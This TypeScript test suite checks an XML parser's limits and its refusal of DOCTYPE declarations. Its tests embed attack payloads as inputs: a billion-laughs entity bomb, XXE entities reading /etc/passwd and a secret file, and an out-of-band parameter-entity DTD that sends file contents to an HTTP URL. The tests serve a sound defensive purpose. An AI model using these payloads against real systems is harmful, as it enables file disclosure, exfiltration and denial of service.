import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { test } from 'node:test';
import { isTrucelineError } from '../../core/errors.ts';
import { parseXml, type ParseXmlOptions, type XmlElement } from './parse-xml.ts';

/** Asserts that parsing is refused with E_VALIDATION and one issue at `path` whose reason matches. */
const assertRefused = (text: string, path: string, reason: RegExp, options?: ParseXmlOptions): void => {
  assert.throws(
    () => parseXml(text, options),
    (error: unknown) => {
      assert.ok(isTrucelineError(error), 'a TrucelineError');
      assert.equal(error.code, 'E_VALIDATION');
      assert.equal(error.issues.length, 1);
      assert.equal(error.issues[0]?.path, path);
      assert.match(error.issues[0]?.reason ?? '', reason);
      return true;
    },
  );
};

/** Whatever parseXml gave back, result or error, as text, to search for leaked content. */
const everythingFrom = (text: string): string => {
  try {
    return JSON.stringify(parseXml(text));
  } catch (error) {
    if (!isTrucelineError(error)) throw error;
    return JSON.stringify({ message: error.message, issues: error.issues, details: error.details });
  }
};

const element = (
  name: string,
  attributes: Record<string, string> = {},
  children: XmlElement[] = [],
  text = '',
): XmlElement => ({ name, attributes, children, text });

const DOCTYPE = /document type declaration \(DOCTYPE\) is not accepted/;

test('a CoT event parses into its element tree', () => {
  const cot = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<event version="2.0" uid="J-01334" type="a-f-G" how="m-g" time="2026-03-01T12:00:00Z"
       start="2026-03-01T12:00:00Z" stale="2026-03-01T12:05:00Z">
  <point lat="48.0159" lon="37.8028" hae="160.0" ce="9.9" le="9999999.0"/>
  <detail>
    <contact callsign="SPARROW-2"/>
    <remarks>  shelling heard &amp; seen  </remarks>
  </detail>
</event>`;
  assert.deepEqual(
    parseXml(cot),
    element(
      'event',
      {
        version: '2.0',
        uid: 'J-01334',
        type: 'a-f-G',
        how: 'm-g',
        time: '2026-03-01T12:00:00Z',
        start: '2026-03-01T12:00:00Z',
        stale: '2026-03-01T12:05:00Z',
      },
      [
        element('point', { lat: '48.0159', lon: '37.8028', hae: '160.0', ce: '9.9', le: '9999999.0' }),
        element('detail', {}, [
          element('contact', { callsign: 'SPARROW-2' }),
          element('remarks', {}, [], 'shelling heard & seen'),
        ]),
      ],
    ),
  );
});

test('the tree is frozen, and an attribute named __proto__ is plain data', () => {
  const root = parseXml('<a __proto__="p" constructor="c"><b/></a>');
  assert.ok(Object.isFrozen(root) && Object.isFrozen(root.attributes) && Object.isFrozen(root.children));
  assert.ok(Object.isFrozen(root.children[0]));
  assert.deepEqual(Object.keys(root.attributes), ['__proto__', 'constructor']);
  assert.equal(root.attributes.__proto__, 'p');
  assert.equal(Object.getPrototypeOf(root.attributes), Object.prototype);
});

test('text is the character data directly inside the element, CDATA included, trimmed of XML space only', () => {
  const root = parseXml('<a>\n  one <b>inner</b> two <![CDATA[<three/>]]>\t</a>');
  assert.equal(root.text, 'one  two <three/>');
  assert.equal(root.children[0]?.text, 'inner');
  // A no-break space is data, not XML whitespace.
  assert.equal(parseXml('<a> &#xA0;x&#xA0; </a>').text, '\u00a0x\u00a0');
});

test('the predefined entities and character references decode, in text and attributes', () => {
  const root = parseXml('<a v="&quot;&apos;&#65;">&amp;&lt;&gt;&#x41;&#66;&#x1F600;</a>');
  assert.equal(root.text, '&<>AB\u{1F600}');
  assert.equal(root.attributes.v, `"'A`);
});

test('an undefined entity is an error, even without a DOCTYPE', () => {
  assertRefused('<event><detail>&foo;</detail></event>', 'event.detail', /undefined entity/);
  assertRefused('<a v="&foo;"/>', 'a', /undefined entity/);
  // Names an Object.prototype member: must not resolve to anything either.
  assertRefused('<a>&constructor;</a>', 'a', /undefined entity/);
});

test('billion laughs is refused at once, for its DOCTYPE, without expanding anything', () => {
  const entities = ['<!ENTITY lol "lol">'];
  for (let i = 1; i <= 9; i += 1)
    entities.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
  const bomb = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ELEMENT lolz (#PCDATA)>\n${entities.join('\n')}\n]>\n<lolz>&lol9;</lolz>`;

  const heapBefore = process.memoryUsage().heapUsed;
  assertRefused(bomb, 'xml', DOCTYPE);
  const heapGrowth = process.memoryUsage().heapUsed - heapBefore;

  // Expanded, &lol9; would be 10⁹ × "lol": 3 GB.
  assert.ok(heapGrowth < 16 * 1024 * 1024, `heap grew by ${heapGrowth} bytes`);
});

test('an external entity (XXE) is refused, and the file it names never shows', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'truceline-xxe-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const secret = join(dir, 'secret.txt');
  const marker = 'TOP-SECRET-9f1c2e';
  writeFileSync(secret, marker);
  const url = pathToFileURL(secret).href;

  const classic = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>';
  assertRefused(classic, 'xml', DOCTYPE);
  assert.doesNotMatch(everythingFrom(classic), /root:/);

  for (const text of [
    `<!DOCTYPE foo [<!ENTITY xxe SYSTEM "${url}">]><foo>&xxe;</foo>`,
    `<!DOCTYPE foo [<!ENTITY xxe SYSTEM "${url}">]><foo a="&xxe;"/>`,
    `<!DOCTYPE foo [<!ENTITY xxe PUBLIC "-//x//y" "${url}">]><foo>&xxe;</foo>`,
  ]) {
    assertRefused(text, 'xml', DOCTYPE);
    assert.ok(!everythingFrom(text).includes(marker));
  }
  // The same reference without its declaration is just an undefined entity.
  assertRefused('<foo>&xxe;</foo>', 'foo', /undefined entity/);
});

test('parameter entities and external DTDs are refused, and nothing is fetched', async (t) => {
  let requests = 0;
  const server = createServer((_request, response) => {
    requests += 1;
    response.end('<!ENTITY % all "<!ENTITY send SYSTEM \'http://127.0.0.1/?%file;\'>"> %all;');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => server.close());
  const dtd = `http://127.0.0.1:${(server.address() as AddressInfo).port}/evil.dtd`;

  for (const text of [
    `<!DOCTYPE foo [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "${dtd}"> %dtd; %all;]><foo>&send;</foo>`,
    '<!DOCTYPE foo [<!ENTITY % p "<!ENTITY q \'leak\'>"> %p;]><foo>&q;</foo>',
    `<!DOCTYPE foo SYSTEM "${dtd}"><foo/>`,
    '<!DOCTYPE foo><foo/>',
  ]) {
    assertRefused(text, 'xml', DOCTYPE);
    assert.doesNotMatch(everythingFrom(text), /root:|leak/);
  }
  await new Promise((resolve) => setTimeout(resolve, 50));
  assert.equal(requests, 0);
});

test('a DOCTYPE after the root is refused too; the word inside CDATA or a comment is only data', () => {
  assertRefused('<a/><!DOCTYPE a>', 'xml', /doctype/i);
  assert.equal(parseXml('<a><!-- <!DOCTYPE a> --><![CDATA[<!DOCTYPE a>]]></a>').text, '<!DOCTYPE a>');
});

test('nesting deeper than maxDepth is refused at the element that goes too deep', () => {
  assert.equal(parseXml('<a><b><c/></b></a>', { maxDepth: 3 }).children[0]?.children[0]?.name, 'c');
  assertRefused('<a><b><c><d/></c></b></a>', 'a.b.c.d', /nested deeper than 3 levels/, { maxDepth: 3 });

  const nested = (depth: number): string => '<d>'.repeat(depth) + '</d>'.repeat(depth);
  assert.doesNotThrow(() => parseXml(nested(64)));
  assertRefused(nested(65), Array.from({ length: 65 }, () => 'd').join('.'), /deeper than 64/);
});

test('more elements than maxNodes is refused', () => {
  assert.equal(parseXml('<a><b/><c/></a>', { maxNodes: 3 }).children.length, 2);
  assertRefused('<a><b/><c/><d/></a>', 'a.d', /more than 3 elements/, { maxNodes: 3 });

  const flat = (elements: number): string => `<r>${'<e/>'.repeat(elements - 1)}</r>`;
  assert.equal(parseXml(flat(100_000)).children.length, 99_999);
  assertRefused(flat(100_001), 'r.e', /more than 100000 elements/);
});

test('a document over maxBytes (UTF-8) is refused before parsing', () => {
  // "<a>é</a>" is 8 characters and 9 bytes.
  assert.equal(parseXml('<a>é</a>', { maxBytes: 9 }).text, 'é');
  assertRefused('<a>é</a>', 'xml', /larger than the limit of 8 bytes/, { maxBytes: 8 });

  const sized = (bytes: number): string => `<a>${'x'.repeat(bytes - 7)}</a>`;
  assert.equal(parseXml(sized(1024 * 1024)).text.length, 1024 * 1024 - 7);
  assertRefused(sized(1024 * 1024 + 1), 'xml', /larger than the limit of 1048576 bytes/);
  // Not even well-formed: the size is checked first.
  assertRefused('<'.repeat(1024 * 1024 + 1), 'xml', /larger than the limit/);
});

test('malformed XML, no root or more than one root is refused, with where it went wrong', () => {
  const cases: [text: string, path: string, reason: RegExp][] = [
    ['', 'xml', /root element/],
    ['   \n', 'xml', /root element/],
    ['<!-- only a comment -->', 'xml', /root element/],
    ['<a/><b/>', 'b', /only one root/],
    ['<a/>text', 'xml', /outside of root/],
    ['<event><detail></event>', 'event.detail', /unexpected close tag/],
    ['<event><detail>', 'event.detail', /unclosed tag/],
    ['<a x="1" x="2"/>', 'a', /duplicate attribute/],
    ['<a x=1/>', 'a', /unquoted attribute value/],
    ['<a>x < y</a>', 'a', /malformed XML at line 1, column \d+/],
  ];
  for (const [text, path, reason] of cases) assertRefused(text, path, reason);
});

test('limits that are not positive integers are refused', () => {
  for (const maxDepth of [0, -1, 1.5, Number.NaN])
    assertRefused('<a/>', 'maxDepth', /positive integer/, { maxDepth });
});
